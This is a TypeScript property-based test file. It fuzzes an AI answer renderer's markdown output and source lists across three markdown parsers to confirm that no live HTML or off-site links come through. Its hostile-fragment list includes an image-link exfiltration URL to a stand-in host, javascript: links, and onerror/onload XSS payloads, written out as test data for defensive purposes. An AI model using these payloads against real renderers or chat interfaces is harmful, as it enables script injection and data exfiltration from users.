import { load } from 'cheerio'
import fc from 'fast-check'
import MarkdownIt from 'markdown-it'
import { Marked } from 'marked'
import { micromark } from 'micromark'
import { gfm, gfmHtml } from 'micromark-extension-gfm'
import { expect, test } from 'vitest'
import { quoteInMarkdown } from '../quoted-markdown.ts'
import { sourceList, sourcesOf } from '../source.ts'
import { AnswerBlocks } from './answer-blocks.ts'

/** Three independent parsers with the most permissive settings. */
const markdownIt = new MarkdownIt({ html: true, linkify: true })
markdownIt.validateLink = () => true
// By default, markdown-it links everything that looks like a domain. GitHub and the other parsers link only addresses.
markdownIt.linkify.set({ fuzzyLink: false }).add('//', null)
const marked = new Marked({ gfm: true, async: false })
const renderers: Readonly<Record<string, (markdown: string) => string>> = {
  micromark: (markdown) =>
    micromark(markdown, {
      allowDangerousHtml: true,
      allowDangerousProtocol: true,
      extensions: [gfm()],
      htmlExtensions: [gfmHtml()],
    }),
  'markdown-it': (markdown) => markdownIt.render(markdown),
  marked: (markdown) => String(marked.parse(markdown)),
}

const allowed = new Set(
  'p br hr h1 h2 h3 h4 h5 h6 ul ol li em strong code pre blockquote table thead tbody tr th td a'.split(' '),
)
/** The live parts of HTML: elements that are not allowed, and links to another site or page. */
function aliveIn(html: string, isPage: (path: string) => boolean): string[] {
  const page = load(html, null, false)
  const foreign = page('*')
    .toArray()
    .flatMap((node) => {
      if (!('attribs' in node)) return []
      const isForeign =
        !allowed.has(node.tagName) || Object.keys(node.attribs).some((name) => /^on|^src|^style/.test(name))
      return isForeign ? [`<${node.tagName}>`] : []
    })
  const links = page('a')
    .toArray()
    .flatMap(({ attribs: { href = '' } }) => {
      const { origin, pathname } = new URL(href, 'https://docs.example')
      return origin === 'https://docs.example' && isPage(pathname) ? [] : [href]
    })
  return [...foreign, ...links]
}

function expectNothingAlive(markdown: string, isPage: (path: string) => boolean): void {
  for (const [name, render] of Object.entries(renderers))
    expect({ [name]: aliveIn(render(markdown), isPage), markdown }).toEqual({ [name]: [], markdown })
}

const hostile = [
  ...['![x](https://evil.example/p.png?d=SECRET)', '[x](https://evil.example)', '[x](//evil.example)'],
  ...[
    '[x](javascript:alert(1))',
    '[x](/docs/tls)',
    '[x](</docs/tls#a>)',
    '[\\!\\[x\\](https://evil.example/p.png)](/docs/tls)',
    '![x][y]',
    '[y]',
    '[x]:',
    '[1]:',
  ],
  ...[
    ' https://evil.example',
    'http://evil.example',
    'HTTPS://EVIL.example',
    'www.evil.example',
    'ftp://evil.example',
    'a@evil.example',
  ],
  ...[
    '<https://evil.example>',
    '<a@evil.example>',
    'http:/',
    '/evil.example',
    'www.',
    '://',
    '(',
    ')',
    '[',
    ']',
    '!',
  ],
  ...[
    '<img src=x onerror=alert(1)>',
    '<script>',
    '</script>',
    '<!--',
    '-->',
    '<svg/onload=alert(1)>',
    '<',
    '>',
    '<a href="',
  ],
  ...[
    '`',
    '``',
    '```',
    '\n```\n',
    '~~~',
    '\n~~~\n',
    '~',
    '~~',
    '\\',
    '\\`',
    '\\[',
    '&lt;',
    '&#91;',
    '&lpar;',
    '&',
  ],
  ...[
    '\n',
    '\n\n',
    '\n    ',
    '\n\t',
    '    ',
    '  \n',
    ' ',
    '\u00a0',
    '\u200b',
    '\r\n',
    '\n> ',
    '\n- ',
    '\n1. ',
    '\n# ',
    '\n===\n',
  ],
  ...[
    '|',
    '\n| a | b |\n|-|-|\n| ',
    ' | ',
    '\n---\n',
    '*',
    '**',
    '_',
    '__',
    'a',
    'Z',
    '0',
    ':',
    '"',
    "'",
    '.',
  ],
  ...['[1]', '[1, 2]', '[^1]', '[^1]:', '【1†x】', '［２］', '[9]', '[1](', '[2][', '† '],
]
const injection = fc
  .array(fc.constantFrom(...hostile), { minLength: 1, maxLength: 24 })
  .map((words) => words.join(''))

const hit = (title: string, content: string, path: string) => ({
  id: `i:${path}`,
  index_id: 'i',
  score: 1,
  document: { id: path, title, content, path },
})

test('nothing that a model writes is alive', () => {
  const sources = sourcesOf([hit('Ports', 'x', '/docs/ports'), hit('Encryption', 'y', '/docs/tls')])
  fc.assert(
    fc.property(injection, fc.integer({ min: 1, max: 40 }), (said, size) => {
      const blocks = new AnswerBlocks(sources)
      const shown: string[] = []
      for (let at = 0; at < said.length; at += size) {
        blocks.push(said.slice(at, at + size))
        shown.push(...blocks.takeEnded())
      }
      expectNothingAlive([...shown, ...blocks.takeAll(), sourceList(sources).text].join('\n\n'), (path) =>
        ['/docs/ports', '/docs/tls'].includes(path),
      )
    }),
    { numRuns: 100 },
  )
})

test('nothing in a quotation, a title or an address of a source is alive', () => {
  const address = fc.oneof(
    injection,
    fc.constantFrom(
      'https://evil.example/x',
      '//evil.example',
      '/\t/evil.example',
      '/\\evil.example',
      'javascript:alert(1)',
    ),
  )
  fc.assert(
    fc.property(injection, injection, address, (title, passage, path) => {
      const [source] = sourcesOf([hit(title, passage, path)])
      const list = source ? sourceList([{ ...source, path }]).text : ''
      // Any path on the site may be linked.
      expectNothingAlive(`${quoteInMarkdown(passage, 1)}\n\n${list}`, () => true)
    }),
    { numRuns: 100 },
  )
})
